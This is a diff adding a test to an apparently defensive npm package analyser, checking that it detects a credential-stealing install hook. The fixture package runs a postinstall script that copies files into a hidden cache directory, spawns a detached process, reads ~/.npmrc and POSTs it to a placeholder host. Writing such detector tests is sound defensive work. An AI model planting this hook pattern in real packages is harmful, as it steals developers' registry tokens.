@@ -1,5 +1,26 @@
 import assert from 'node:assert/strict';
+import { analysePackage } from '../../../../../server/src/artifacts/analysis/analyse.js';
+import { packageOf } from '../../../../support/artifacts.js';
 import { behavioursOf, flowsOf } from './sent.js';
+
+const started = (files: Readonly<Record<string, string>>) =>
+  analysePackage(
+    packageOf({ 'package.json': JSON.stringify({ scripts: { postinstall: 'node scripts/setup.js' } }), ...files }),
+  ).flows.map(({ source, sink, host, moment }) => `${source}>${sink} ${host ?? ''} ${moment}`);
+
+describe('files of the package that are copied and started', () => {
+  it('are those files, with what lies beside them (patch-manager, 2025)', () => {
+    const flows = started({
+      'scripts/setup.js': `const fs = require('fs'), os = require('os'), path = require('path'), { spawn } = require('child_process');
+        const names = { 'watch.js': 'cache.js', 'files.js': 'files.js' }; const dir = path.join(os.homedir(), '.cache', 'registry');
+        for (const [from, to] of Object.entries(names)) fs.copyFileSync(path.join(__dirname, '..', 'src', from), path.join(dir, to));
+        spawn(process.execPath, [path.join(dir, 'cache.js')], { detached: true }).unref();`,
+      'src/watch.js': `const { all } = require('./files'); fetch('https://collect.invalid', { method: 'POST', body: all() });`,
+      'src/files.js': `const fs = require('fs'), os = require('os'); exports.all = () => fs.readFileSync(os.homedir() + '/.npmrc');`,
+    });
+    assert.ok(flows.includes('credential-file>network collect.invalid install'), flows.join('; '));
+  });
+});
 
 describe('files that are written', () => {
   it('do what they say where git or npm runs them', () => {
